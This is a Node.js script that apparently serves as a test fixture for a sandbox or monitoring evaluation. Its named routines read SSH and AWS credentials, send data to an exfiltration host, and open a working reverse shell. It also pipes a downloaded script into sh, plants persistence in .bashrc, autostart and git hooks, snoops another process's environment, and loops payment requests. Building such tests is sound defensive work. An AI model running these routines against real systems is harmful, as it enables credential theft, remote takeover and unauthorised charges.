// One attack, as Node does it without starting anything that it need not start: attack.mjs NAME.
import { spawn, spawnSync } from 'node:child_process';
import { appendFileSync, chmodSync, copyFileSync, mkdirSync, readFileSync, unlinkSync } from 'node:fs';
import { connect } from 'node:net';
import { dirname, join } from 'node:path';

const { env } = process;
const inHome = (...names) => join(env.HOME, ...names);

async function ask(host, path, options) {
  const response = await fetch(`http://${host}${path}`, { ...options, headers: { connection: 'close' } });
  return await response.text();
}

function append(path, text) {
  mkdirSync(dirname(path), { recursive: true });
  appendFileSync(path, text);
}

const attacks = {
  'read-keys': () => {
    for (const path of [inHome('.ssh', 'id_ed25519'), inHome('.aws', 'credentials'), inHome('work', '.env')])
      readFileSync(path);
  },
  exfiltration: () => ask(env.EVAL_EXFILTRATION, '/upload', { method: 'POST', body: 'stolen' }),
  'reverse-shell': async () => {
    const [host, port] = env.EVAL_REVERSE_SHELL.split(':');
    const peer = connect(Number(port), host);
    await new Promise((resolve, reject) => peer.on('connect', resolve).on('error', reject));
    const shell = spawn('/bin/sh', ['-i']);
    peer.pipe(shell.stdin);
    for (const stream of [shell.stdout, shell.stderr]) stream.pipe(peer, { end: false });
    await new Promise((resolve) => shell.on('close', resolve));
    peer.destroy();
  },
  'dropped-binary': () => {
    copyFileSync('/bin/true', env.EVAL_DROPPED);
    chmodSync(env.EVAL_DROPPED, 0o755);
    spawnSync(env.EVAL_DROPPED);
    unlinkSync(env.EVAL_DROPPED);
  },
  persistence: () => {
    append(inHome('.bashrc'), '/tmp/x &\n');
    append(inHome('.config', 'autostart', 'helper.desktop'), 'Exec=/tmp/x\n');
    append(inHome('work', '.git', 'hooks', 'post-commit'), '/tmp/x &\n');
  },
  'proc-snooping': () => readFileSync(`/proc/${env.EVAL_VICTIM}/environ`),
  'curl-sh': async () => spawnSync('/bin/sh', { input: await ask(env.EVAL_CURL_SH, '/install.sh') }),
  'payment-loop': async () => {
    for (let number = 0; number < Number(env.EVAL_PAYMENTS); number++)
      await ask(env.EVAL_PAYMENT_LOOP, '/v1/payments', { method: 'POST', body: `amount=1990&reference=${number}` });
  },
};

await attacks[process.argv[2]]();
